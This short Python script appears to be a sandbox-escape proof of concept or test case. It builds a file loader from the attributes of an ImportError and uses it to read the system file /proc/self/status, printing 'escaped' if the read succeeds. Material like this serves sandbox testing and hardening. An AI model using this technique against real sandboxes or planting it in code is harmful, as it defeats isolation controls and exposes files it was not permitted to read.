"""The name and the path of an ImportError lead to a loader, which reads any file."""
import string

try:
    from string import nothing_here
except ImportError as error:
    loader = type(string.__loader__)(error.name_from, error.path)
    if loader.get_data("/proc/self/status"):
        print("escaped")
